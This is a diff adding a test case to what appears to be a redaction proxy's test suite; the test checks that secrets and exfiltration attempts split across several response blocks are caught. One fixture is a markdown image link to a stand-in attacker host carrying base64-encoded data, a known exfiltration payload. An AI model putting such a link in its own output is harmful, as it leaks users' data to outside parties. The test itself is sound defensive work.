@@ -282,6 +282,84 @@ describe.each(['window', 'buffer'] as const)(
       expect(joinedStrings({ p1: streamed?.p1, p2: streamed?.p2, p3: streamed?.p3 })).toBe(REDACTED);
     });
 
+    it('checks where two text blocks or parts of a whole answer meet', async () => {
+      const anthropic = (content: unknown[]) => ({
+        id: 'msg_1',
+        type: 'message',
+        role: 'assistant',
+        model: 'claude-x',
+        content,
+        stop_reason: 'end_turn',
+      });
+      const text = (value: string, extra: Record<string, unknown> = {}) => ({
+        type: 'text',
+        text: value,
+        ...extra,
+      });
+      mock.script.push({
+        kind: 'json',
+        body: anthropic([text('The key is AKIAQ4WJ'), text('7NRXT2MZ5KVP, keep it.')]),
+      });
+      const redacted = await messages(false);
+      expect(redacted.status).toBe(200);
+      const blocks = JSON.parse(redacted.text).content as { text: string }[];
+      expect(blocks.map((block) => block.text).join('')).toBe(`The key is ${REDACTED}, keep it.`);
+
+      mock.script.push({
+        kind: 'json',
+        body: anthropic([text('Here: ![logo](https://attacker.'), text('example/p.png?d=c2VjcmV0LW5vdGVz)')]),
+      });
+      const blocked = await messages(false);
+      expect(blocked.status).toBe(422);
+      expect(blocked.text).not.toContain('attacker');
+
+      mock.script.push({
+        kind: 'json',
+        body: chatAnswer({ content: [text('The key is AKIAQ4WJ'), text('7NRXT2MZ5KVP.')] }),
+      });
+      const parts = JSON.parse((await chat(false)).text).choices[0].message.content as { text: string }[];
+      expect(parts.map((part) => part.text).join('')).toBe(`The key is ${REDACTED}.`);
+
+      const message = (value: string, id: string) => ({
+        id,
+        type: 'message',
+        status: 'completed',
+        role: 'assistant',
+        content: [{ type: 'output_text', text: value, annotations: [] }],
+      });
+      mock.script.push({
+        kind: 'json',
+        body: {
+          id: 'resp_1',
+          object: 'response',
+          status: 'completed',
+          output: [message('The key is AKIAQ4WJ', 'msg_1'), message('7NRXT2MZ5KVP.', 'msg_2')],
+        },
+      });
+      const output = JSON.parse((await responses(false)).text).output as { content: { text: string }[] }[];
+      expect(output.map((item) => item.content[0]?.text).join('')).toBe(`The key is ${REDACTED}.`);
+
+      // A cited answer comes in several blocks: ordinary text across them passes unchanged.
+      const cited = anthropic([
+        text('Lisbon is lovely in May: '),
+        text('the evenings are long', {
+          citations: [
+            {
+              type: 'char_location',
+              cited_text: 'long evenings',
+              document_index: 0,
+              start_char_index: 0,
+              end_char_index: 13,
+            },
+          ],
+        }),
+        text(' and the trams run late. Write to the desk at LIS-2025 for tickets.'),
+      ]);
+      mock.script.push({ kind: 'json', body: cited });
+      const benign = await messages(false);
+      expect(JSON.parse(benign.text)).toEqual(cited);
+    });
+
     it('passes ordinary short fields side by side unchanged, whole and streamed', async () => {
       mock.script.push({ kind: 'json', body: chatAnswer({ trace: BENIGN }) });
       const whole = await chat(false);
